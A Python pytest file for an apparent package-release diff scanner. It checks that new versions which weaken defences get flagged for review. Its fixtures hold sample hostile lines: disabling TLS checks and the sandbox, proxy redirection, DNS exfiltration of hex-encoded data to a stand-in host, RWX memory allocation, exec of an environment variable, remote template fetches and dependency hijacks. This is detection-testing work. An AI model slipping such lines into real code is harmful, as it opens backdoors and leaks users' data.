"""The next release opens a door without a new act: who is asked for, where an address leads, what a program is told to trust."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from onionskin.flows.peel import peel
from onionskin.jail.pool import Pool
from onionskin.lookalike.archives import npm_pair
from onionskin.model import Level

POOLS: list[Pool] = []
LINES = "".join(f"exports.area{n} = (side) => {{\n  const half = side / {n + 1};\n  return half * side;\n}};\n" for n in range(24))  # fmt: skip
MODULE = "".join(f"def area{n}(side):\n    half = side / {n + 1}\n    return half * side\n\n\n" for n in range(24))  # fmt: skip
WALLS = (
    "app.on('certificate-error', (e, w, u, err, c, done) => done(true));",
    "session.defaultSession.setCertificateVerifyProc((r, done) => done(0));",
    "app.commandLine.appendSwitch('remote-debugging-port', '9222');",
    "app.commandLine.appendSwitch('no-sandbox');",
    "app.commandLine.appendSwitch('host-rules', 'MAP * 192.0.2.1');",
    "win.webContents.session.setProxy({ proxyRules: 'http=192.0.2.1:3128' });",
    "process.env['NODE_TLS_REJECT_' + 'UNAUTHORIZED'] = '0';",
    "fs.appendFileSync('AGENTS.md', words);",
    "fs.writeFileSync('/tmp/.cache-0', half);",
    "dns.lookup(Buffer.from(half).toString('hex') + '.a.example.invalid', () => {});",
)
KEPT = (
    "__import__('syslog').syslog(repr(half))",
    "open('/var/tmp/.s', 'a').write(repr(half))",
    "socket.getaddrinfo(binascii.hexlify(half) + '.a.example.invalid', 53)",
    "k.VirtualAlloc(0, 64, 0x3000, 0x40)",
    "f = os.memfd_create('x')",
    "os.environ['HTTPS_PROXY'] = 'http://192.0.2.1:3128'",
)


@pytest.fixture(autouse=True, scope="module")
def one_pool() -> Iterator[None]:
    with Pool(workers=1) as pool:
        POOLS.append(pool)
        yield
        POOLS.clear()


def signals(folder: Path, version: str, old: dict[str, bytes], new: dict[str, bytes]) -> set[str]:
    before, after = npm_pair(folder, version, old, new)
    (report,) = peel([after], pool=POOLS[0], against=[before])
    return {each.signal for each in report.findings if each.level is Level.REVIEW}


def put(script: str, line: str) -> bytes:
    before, mark, behind = script.partition(" / 9;\n" if ";" in script else " / 9\n")
    return f"{before}{mark}{'  ' if ';' in script else '    '}{line}\n{behind}".encode()


@pytest.mark.parametrize("line", WALLS)
def test_a_line_that_lowers_a_wall_asks_for_review(line: str, tmp_path: Path) -> None:
    assert signals(tmp_path, "1.2.4", {"a.js": LINES.encode()}, {"a.js": put(LINES, line)})


@pytest.mark.parametrize("line", KEPT)
def test_a_line_that_keeps_what_it_is_given_asks_for_review(line: str, tmp_path: Path) -> None:
    assert signals(tmp_path, "1.2.4", {"a.py": MODULE.encode()}, {"a.py": put(MODULE, line)})


def manifest(version: str, **more: object) -> bytes:
    return json.dumps({"name": "areas", "version": version, **more}, indent=2).encode()


@pytest.mark.parametrize(
    ("version", "old", "new"),
    [
        ("1.2.4", "^2.0.0", "^1.0.0"),
        ("1.2.4", "^2.0.0", "1.9.9"),
        ("1.2.4", "~2.1.4", "~2.1.0"),
        ("1.3.0", "^2.0.0", ">=0"),
        ("2.0.0", "2.0.0", ""),
        ("1.2.4", "^2.0.0", "npm:@inert/other@^9"),
    ],
)
def test_a_requirement_that_lets_others_in_asks_for_review(version: str, old: str, new: str, tmp_path: Path) -> None:  # fmt: skip
    files = {"index.js": b"exports.a = require('@inert/shapes');\n"}
    was = files | {"package.json": manifest("1.2.3", dependencies={"@inert/shapes": old})}
    now = files | {"package.json": manifest(version, dependencies={"@inert/shapes": new})}
    assert signals(tmp_path, version, was, now) & {"dependency-left-open", "new-dependency"}


def test_a_first_script_that_is_new_and_reaches_out_asks_for_review_in_any_step(tmp_path: Path) -> None:  # fmt: skip
    entry = b"module.exports = require('./a.js');\nrequire('https').get('https://a.example.invalid/');\n"
    was = {"a.js": LINES.encode(), "package.json": manifest("1.2.3", main="a.js")}
    now = {"a.js": LINES.encode(), "entry.js": entry, "package.json": manifest("1.3.0", main="entry.js")}  # fmt: skip
    assert "new-script-reaches-out" in signals(tmp_path, "1.3.0", was, now)


REACHES = b"const https = require('https');\nexports.ask = () => {\n  return https.get('https://a.example.invalid/');\n};\n"


def test_a_script_for_another_use_that_is_nearly_the_same_asks_for_nothing(tmp_path: Path) -> None:
    was = {"lib/ask.js": LINES.encode() + REACHES}
    now = was | {"esm/ask.js": LINES.encode() + REACHES + b"exports.esm = 1;\n"}
    assert "new-script-reaches-out" not in signals(tmp_path, "1.2.4", was, now)


def test_a_script_of_a_known_name_with_an_act_of_its_own_asks_for_review(tmp_path: Path) -> None:
    was = {"lib/ask.js": LINES.encode() + REACHES}
    now = was | {"esm/ask.js": LINES.encode() + REACHES + b"require('child_process').exec(process.env.INERT);\n"}  # fmt: skip
    assert "new-script-reaches-out" in signals(tmp_path, "1.2.4", was, now)


def test_a_script_that_was_moved_and_is_gone_where_it_was_asks_for_nothing(tmp_path: Path) -> None:
    was = {"lib/ask.js": LINES.encode() + REACHES, "index.js": LINES.encode()}
    now = {"source/ask.js": LINES.encode() + REACHES + b"exports.moved = 1;\n", "index.js": LINES.encode()}  # fmt: skip
    assert "new-script-reaches-out" not in signals(tmp_path, "1.2.4", was, now)


RELS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>%s</Relationships>'
OUT = b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://a.example.invalid/t.dotm" TargetMode="External"/>'


def test_a_document_whose_template_is_fetched_asks_for_review(tmp_path: Path) -> None:
    was, now = {"word/_rels/settings.xml.rels": RELS % b""}, {"word/_rels/settings.xml.rels": RELS % OUT}  # fmt: skip
    assert signals(tmp_path, "1.2.4", was, now)


def test_an_editor_that_is_told_to_trust_asks_for_review_in_any_step(tmp_path: Path) -> None:
    trust = {"configurationDefaults": {"security.workspace.trust.enabled": False}}
    old = {"extension/package.json": manifest("1.2.3", contributes={"themes": []})}
    new = {"extension/package.json": manifest("1.3.0", contributes={"themes": [], **trust})}
    assert "new-acting-setting" in signals(tmp_path, "1.3.0", old, new)


OTHERS = (
    {"overrides": {"debug": "npm:debug-inert@9"}},
    {"resolutions": {"ms": "https://a.example.invalid/ms.tgz"}},
)


@pytest.mark.parametrize("said", OTHERS)
def test_another_package_under_the_name_of_one_that_is_needed_asks_for_review_in_any_step(
    said: dict[str, object], tmp_path: Path
) -> None:
    old, new = {"package.json": manifest("1.2.3")}, {"package.json": manifest("1.3.0", **said)}
    assert "new-acting-setting" in signals(tmp_path, "1.3.0", old, new)


def test_another_version_of_a_package_that_is_needed_asks_for_nothing(tmp_path: Path) -> None:
    old = {"package.json": manifest("1.2.3")}
    new = {"package.json": manifest("1.3.0", overrides={"debug": "^4.4.0"})}
    assert "new-acting-setting" not in signals(tmp_path, "1.3.0", old, new)
